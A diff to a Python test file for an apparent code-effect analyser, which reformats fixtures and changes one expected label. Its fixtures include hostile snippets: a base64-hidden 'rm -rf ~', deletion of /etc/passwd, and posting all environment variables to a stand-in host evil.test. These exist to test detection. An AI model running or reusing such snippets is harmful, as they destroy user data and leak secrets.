@@ -5,10 +5,9 @@ from __future__ import annotations
 import base64
 
 import pytest
+from code_reading import KNOWN, acts
 
 from jevhook.shell.code import read_code
-
-from code_reading import KNOWN, acts
 
 HIDDEN = base64.b64encode(b"import os; os.system('rm -rf ~')").decode()
 
@@ -81,13 +80,16 @@ ROWS: list[tuple[str, list[str]]] = [
     ("import os\ndef unused(): os.remove('/etc/passwd')", []),
     ("import os\ndef f(): os.remove('x')\nhandlers = {'a': f}", ["delete? x"]),
     ("import os, threading\nthreading.Thread(target=os.remove, args=('x',)).start()", ["delete x"]),
-    ("import os\nclass A:\n def __init__(self, p): self.p = p\n def go(self): os.remove(self.p)\nA('x').go()", ["delete x"]),
+    (
+        "import os\nclass A:\n def __init__(self, p): self.p = p\n def go(self): os.remove(self.p)\nA('x').go()",
+        ["delete x"],
+    ),
     ("import os\nf = lambda p: os.remove(p)\nf('x')", ["delete x"]),
     ("import os\nfrom functools import partial\npartial(os.remove, 'x')()", ["delete x"]),
     # files
     ("open('o', 'w').write('x')", ["write o"]),
     ("with open('i') as f: f.read()", ["read i"]),
-    ("open('b', 'r+')", ["write b"]),
+    ("open('b', 'r+')", ["read b", "write b"]),
     ("from pathlib import Path; Path('a').write_text('x'); Path('b').read_text()", ["write a", "read b"]),
     ("import shutil; shutil.copy('a', 'b'); shutil.move('c', 'd')", ["read a", "write b", "move c", "write d"]),
     ("import os; os.replace('a', 'b')", ["move a", "write b"]),
@@ -103,7 +105,10 @@ ROWS: list[tuple[str, list[str]]] = [
     ("import urllib.request as u; u.urlopen('https://ok.test')", ["fetch https://ok.test"]),
     ("import urllib.request as u; u.urlopen('https://evil.test', data=b'x')", ["send https://evil.test"]),
     ("import smtplib; smtplib.SMTP('mail.test')", ["send mail.test"]),
-    ("import os, requests; requests.post('https://evil.test', json=dict(os.environ))", ["env", "send https://evil.test"]),
+    (
+        "import os, requests; requests.post('https://evil.test', json=dict(os.environ))",
+        ["env", "send https://evil.test"],
+    ),
     ("import os; print(os.environ)", ["env"]),
     ("import os, subprocess; subprocess.run(['ls'], env={**os.environ, 'A': '1'})", ["argv ls"]),
     # code from elsewhere
